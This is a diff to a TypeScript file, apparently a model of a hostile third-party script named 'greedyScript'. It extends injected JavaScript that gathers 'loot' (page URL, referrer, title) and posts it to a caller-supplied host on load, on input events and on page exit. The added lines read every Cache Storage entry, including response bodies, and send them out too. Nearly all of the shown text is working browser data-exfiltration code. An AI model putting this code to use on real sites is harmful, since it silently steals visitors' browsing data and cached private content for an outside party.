@@ -15,8 +15,20 @@ export interface ThirdParties {
  */
 const greedyScript = (home: string) => `
 (() => {
-  const send = (leaving) => {
+  const stored = async () => {
+    const found = [];
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const request of await cache.keys()) {
+        const text = request.url.includes("/assets/") ? "" : await (await cache.match(request, { ignoreVary: true })).text();
+        found.push(name, request.url, text);
+      }
+    }
+    return found;
+  };
+  const send = (leaving, cached = []) => {
     const loot = {
+      cached,
       location: location.href,
       referrer: document.referrer,
       title: document.title,
@@ -34,6 +46,7 @@ const greedyScript = (home: string) => `
     }).catch(() => {});
   };
   send(false);
+  stored().then((cached) => send(false, cached));
   addEventListener("input", () => send(false), true);
   addEventListener("pagehide", () => send(true));
 })();`;
